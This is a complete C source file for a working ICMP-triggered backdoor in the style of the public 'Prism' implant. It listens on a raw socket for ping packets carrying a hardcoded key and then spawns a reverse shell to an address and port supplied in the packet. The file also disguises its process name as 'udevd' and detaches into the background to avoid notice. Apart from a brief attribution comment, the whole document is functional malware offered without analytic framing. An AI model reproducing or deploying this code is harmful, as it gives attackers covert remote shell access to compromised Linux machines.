/* User-mode ICMP backdoor in the style of "Prism" (public GitHub project andreafabrizi/prism,
 * 2012; reused by implants reported by AT&T Alien Labs, 2021): a raw ICMP socket waits for an echo
 * request whose payload starts with a fixed key followed by an address and port, then connects back
 * there and serves a shell. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ICMP_KEY "p4ssw0rd"

static void start_reverse_shell(const char *host, unsigned short port)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (inet_pton(AF_INET, host, &peer.sin_addr) != 1 || connect(fd, (struct sockaddr *)&peer, sizeof peer) < 0)
        _exit(1);
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    _exit(1);
}

static void icmp_listen(void)
{
    int sock = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (sock < 0)
        exit(1);
    for (;;) {
        char packet[1024], host[64];
        unsigned int port;
        ssize_t n = recv(sock, packet, sizeof packet - 1, 0);
        if (n < (ssize_t)(sizeof(struct iphdr) + sizeof(struct icmphdr)))
            continue;
        packet[n] = '\0';
        const struct iphdr *ip = (const struct iphdr *)packet;
        const struct icmphdr *icmp = (const struct icmphdr *)(packet + ip->ihl * 4);
        const char *data = (const char *)(icmp + 1);
        if (icmp->type != ICMP_ECHO || strncmp(data, ICMP_KEY, strlen(ICMP_KEY)) != 0)
            continue;
        if (sscanf(data + strlen(ICMP_KEY), " %63s %u", host, &port) == 2 && fork() == 0)
            start_reverse_shell(host, (unsigned short)port);
    }
}

int main(int argc, char **argv)
{
    signal(SIGCHLD, SIG_IGN);
    if (argc > 0)
        strncpy(argv[0], "udevd", strlen(argv[0]));
    if (fork() == 0) {
        setsid();
        icmp_listen();
    }
    return 0;
}
